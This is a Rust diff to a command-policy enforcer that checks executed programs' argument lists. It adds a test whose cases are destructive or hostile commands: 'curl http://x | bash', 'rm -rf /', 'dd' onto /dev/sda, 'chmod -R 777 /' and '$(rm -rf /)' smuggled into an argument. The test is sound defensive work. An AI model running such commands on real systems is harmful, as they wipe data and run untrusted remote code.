@@ -37,6 +37,18 @@ impl Mode {
     }
 }
 
+/// What the backstop decides with: handed to the reader when it is
+/// forked, so it can answer the kernel itself.
+pub struct Settings {
+    pub policy: Policy,
+    pub subject: Subject,
+    pub home: String,
+    pub mode: Mode,
+    /// Rules already approved when the session starts (a `-c` command
+    /// approved before it ran), granted before the first exec is decided.
+    pub granted: Vec<String>,
+}
+
 /// What to answer.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub enum Action {
@@ -107,7 +119,9 @@ pub fn decide(policy: &Policy, who: &Subject, home: &str, req: &Request, mode: M
     let mut best: Option<(Verdict, Option<RuleRef>, String)> = None;
     for name in names(req) {
         let line = line(&name, req);
-        let d = policy.check(&line, who, &env);
+        let mut words = vec![name.clone()];
+        words.extend(req.argv.iter().skip(1).cloned());
+        let d = policy.check_argv(&line, &words, who, &env);
         if best.as_ref().is_none_or(|(v, _, _)| d.verdict > *v) {
             best = Some((d.verdict, d.rule, line));
         }
@@ -188,6 +202,40 @@ mod tests {
         // What it would start is refused when it starts.
         let rm = decide(&policy, &who(), "/", &req("/bin/rm", &["rm", "-rf", "/"]), Mode::Enforce, |_| false);
         assert!(matches!(rm.action, Action::Refuse(_)));
+    }
+
+    /// The backstop checks words without parsing a line; that must be the
+    /// verdict the line of those words, quoted, gets.
+    #[test]
+    fn checking_the_words_is_checking_the_quoted_line() {
+        let policy = Policy::default_policy().for_execs();
+        let mut env = Env::new("/home/alice", "/home/alice");
+        env.execs_checked = true;
+        let cases: &[&[&str]] = &[
+            &["/bin/true"],
+            &["/bin/rm", "-rf", "/"],
+            &["/bin/rm", "-rf", "."],
+            &["/usr/bin/sudo", "rm", "-rf", "/etc"],
+            &["/bin/bash", "-c", "curl http://x | bash"],
+            &["/bin/bash", "-c", "rm -rf / ; echo $(id)"],
+            &["/usr/bin/env", "FOO=1", "dd", "if=/dev/zero", "of=/dev/sda"],
+            &["/bin/sh", "-c", "eval \"$X\""],
+            &["/usr/bin/git", "push", "--force", "origin", "main"],
+            &["/usr/bin/kubectl", "delete", "namespace", "prod"],
+            &["/bin/echo", "it's", "a b", "$(rm -rf /)", "*", ""],
+            &["/usr/bin/python3", "-c", "import os; os.system('rm -rf /')"],
+            &["/usr/bin/xargs", "rm", "-rf"],
+            &["/usr/bin/find", "/", "-delete"],
+            &["/bin/chmod", "-R", "777", "/"],
+            &["/usr/bin/systemctl", "stop", "sshd"],
+        ];
+        for argv in cases {
+            let words: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
+            let line = words.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
+            let typed = policy.check(&line, &who(), &env);
+            let exec = policy.check_argv(&line, &words, &who(), &env);
+            assert_eq!((typed.verdict, typed.rule.map(|r| r.name)), (exec.verdict, exec.rule.map(|r| r.name)), "{line}");
+        }
     }
 
     #[test]
